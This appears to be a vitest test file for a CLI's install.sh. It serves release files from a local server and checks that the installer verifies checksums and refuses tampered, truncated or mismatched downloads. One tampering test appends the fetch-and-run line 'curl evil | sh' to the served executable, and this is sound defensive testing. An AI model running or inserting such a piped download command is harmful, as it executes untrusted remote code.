@@ -1,0 +1,182 @@
+/**
+ * install.sh, run with sh against release files served from 127.0.0.1: it installs a verified
+ * executable, and refuses each bad input with one line, a non-zero exit and nothing installed.
+ */
+import { execFileSync, spawn } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { chmodSync, existsSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join, resolve } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { tempDir } from '../support/temp.js';
+
+const script = resolve(import.meta.dirname, '../../install.sh');
+const arch = process.arch === 'arm64' ? 'arm64' : 'x64';
+const platform = `${process.platform}-${arch}`;
+const executable = (version: string) => `#!/bin/sh\necho "loopsctl ${version}"\n`;
+const which = (program: string) => execFileSync('sh', ['-c', `command -v ${program}`], { encoding: 'utf8' }).trim();
+const has = (program: string) => {
+  try {
+    return which(program) !== '';
+  } catch {
+    return false;
+  }
+};
+if (!has('wget')) process.stderr.write("install-script.test.ts: no wget here, so install.sh's download with wget is not tested\n");
+const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
+
+/** What the server answers for each path: a body, or a body cut short of its announced length. */
+type Answer = { body: string; type?: string } | { cut: string };
+let answers = new Map<string, Answer>();
+let server: Server;
+let base: string;
+
+beforeAll(async () => {
+  server = createServer((request, response) => {
+    const answer = answers.get(request.url ?? '');
+    if (answer === undefined) return response.writeHead(404).end('not found');
+    if ('cut' in answer) {
+      response.writeHead(200, { 'content-length': answer.cut.length * 2 });
+      response.write(answer.cut);
+      return response.socket?.destroy();
+    }
+    response.writeHead(200, { 'content-type': answer.type ?? 'application/octet-stream' }).end(answer.body);
+  });
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
+  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/release`;
+});
+afterAll(() => new Promise((done) => server.close(done)));
+
+/** A release of two versions' files and a SHA256SUMS that lists them. */
+function release(
+  files: Record<string, string>,
+  sums = Object.entries(files)
+    .map(([name, body]) => `${sha256(body)}  ${name}\n`)
+    .join(''),
+) {
+  answers = new Map(Object.entries(files).map(([name, body]) => [`/release/${name}`, { body }]));
+  answers.set('/release/SHA256SUMS', { body: sums });
+}
+
+function install(args: string[] = [], env: Record<string, string> = {}) {
+  const dir = tempDir('loopsctl-install-');
+  const installDir = join(dir, 'bin');
+  return new Promise<{ code: number | null; stdout: string; stderr: string; installDir: string }>((done) => {
+    const child = spawn('sh', [script, ...args], {
+      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir, LOOPSCTL_INSTALL_BASE_URL: base, LOOPSCTL_INSTALL_DIR: installDir, ...env },
+    });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.setEncoding('utf8').on('data', (chunk) => (stdout += chunk));
+    child.stderr.setEncoding('utf8').on('data', (chunk) => (stderr += chunk));
+    child.on('close', (code) => done({ code, stdout, stderr, installDir }));
+  });
+}
+
+/** Nothing of an install is left: no executable, no partial download. */
+function nothingInstalled(installDir: string) {
+  expect(existsSync(installDir) ? readdirSync(installDir) : []).toEqual([]);
+}
+
+describe('install.sh', () => {
+  it('installs the verified executable for this machine, atomically, and says how to put it on PATH', async () => {
+    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0'), 'loopsctl-0.2.0-windows-x64.exe': 'other', 'loopsctl-0.2.0.tgz': 'tarball' });
+    const result = await install();
+    expect(result.stderr).toBe('');
+    expect(result.code).toBe(0);
+    expect(result.stdout).toContain(`Installed loopsctl-0.2.0-${platform} as ${result.installDir}/loopsctl`);
+    expect(result.stdout).toContain(`export PATH="${result.installDir}:$PATH"`);
+    expect(readdirSync(result.installDir)).toEqual(['loopsctl']);
+    const ran = spawn(join(result.installDir, 'loopsctl'));
+    const said = await new Promise<string>((done) => {
+      let text = '';
+      ran.stdout.setEncoding('utf8').on('data', (chunk) => (text += chunk));
+      ran.on('close', () => done(text));
+    });
+    expect(said).toBe('loopsctl 0.2.0\n');
+  });
+
+  it.skipIf(!has('wget'))('downloads with wget where there is no curl', async () => {
+    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
+    // Only the programs install.sh uses, curl left out.
+    const tools = tempDir('loopsctl-tools-');
+    for (const tool of ['sh', 'uname', 'mkdir', 'grep', 'cut', 'sha256sum', 'chmod', 'mv', 'rm', 'head', 'wget']) symlinkSync(which(tool), join(tools, tool));
+    const result = await install([], { PATH: tools });
+    expect(result.stderr).toBe('');
+    expect(result.stdout).toContain(`Installed loopsctl-0.2.0-${platform}`);
+  });
+
+  it('installs the version named by its first argument', async () => {
+    release({ [`loopsctl-0.1.0-${platform}`]: executable('0.1.0'), [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
+    const result = await install(['v0.1.0']);
+    expect(result.code).toBe(0);
+    expect(result.stdout).toContain(`Installed loopsctl-0.1.0-${platform}`);
+  });
+
+  it('refuses an executable that does not match its checksum', async () => {
+    const name = `loopsctl-0.2.0-${platform}`;
+    release({ [name]: executable('0.2.0') });
+    answers.set(`/release/${name}`, { body: `${executable('0.2.0')}curl evil | sh\n` });
+    const result = await install();
+    expect(result.code).not.toBe(0);
+    const refusal = `^loopsctl install: ${name} does not match its checksum \\(expected [0-9a-f]{64}, got [0-9a-f]{64}\\): not installed\n$`;
+    expect(result.stderr).toMatch(new RegExp(refusal));
+    nothingInstalled(result.installDir);
+  });
+
+  it('refuses a release whose checksum list has no line for this platform', async () => {
+    release({ 'loopsctl-0.2.0-windows-x64.exe': 'other' });
+    answers.set(`/release/loopsctl-0.2.0-${platform}`, { body: executable('0.2.0') });
+    const result = await install();
+    expect(result.code).not.toBe(0);
+    expect(result.stderr).toBe(`loopsctl install: the release has no checksum for a build for ${platform}: not installed\n`);
+    nothingInstalled(result.installDir);
+  });
+
+  it('refuses a release address that answers a web page', async () => {
+    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
+    answers.set('/release/SHA256SUMS', { body: '<!DOCTYPE html>\n<html><body>Sign in</body></html>\n', type: 'text/html' });
+    const result = await install();
+    expect(result.code).not.toBe(0);
+    expect(result.stderr).toMatch(/^loopsctl install: http:\/\/127\.0\.0\.1:\d+\/release\/SHA256SUMS is not a checksum list/);
+    nothingInstalled(result.installDir);
+  });
+
+  it('refuses a download cut short', async () => {
+    const name = `loopsctl-0.2.0-${platform}`;
+    release({ [name]: executable('0.2.0') });
+    answers.set(`/release/${name}`, { cut: executable('0.2.0') });
+    const result = await install();
+    expect(result.code).not.toBe(0);
+    expect(result.stderr).toContain(`loopsctl install: could not download ${base}/${name}\n`);
+    nothingInstalled(result.installDir);
+  });
+
+  it('refuses a platform it has no build for', async () => {
+    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
+    const fakeBin = tempDir('loopsctl-uname-');
+    writeFileSync(join(fakeBin, 'uname'), '#!/bin/sh\n[ "$1" = -s ] && echo Plan9 || echo mips\n');
+    chmodSync(join(fakeBin, 'uname'), 0o755);
+    const result = await install([], { PATH: `${fakeBin}:${process.env.PATH}` });
+    expect(result.code).not.toBe(0);
+    expect(result.stderr).toBe('loopsctl install: no build for this system (Plan9); install with npm instead: npm install -g loopsctl\n');
+    nothingInstalled(result.installDir);
+  });
+
+  it('refuses an install directory it cannot make', async () => {
+    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
+    const file = join(tempDir('loopsctl-install-'), 'a-file');
+    writeFileSync(file, '');
+    const result = await install([], { LOOPSCTL_INSTALL_DIR: join(file, 'bin') });
+    expect(result.code).not.toBe(0);
+    expect(result.stderr).toBe(`loopsctl install: cannot make the install directory ${join(file, 'bin')}\n`);
+  });
+
+  it('refuses a first argument that is not a version', async () => {
+    const result = await install(['--force']);
+    expect(result.code).not.toBe(0);
+    expect(result.stderr).toBe('loopsctl install: "--force" is not a version (say 0.2.0, or nothing for the latest)\n');
+    nothingInstalled(result.installDir);
+  });
+});
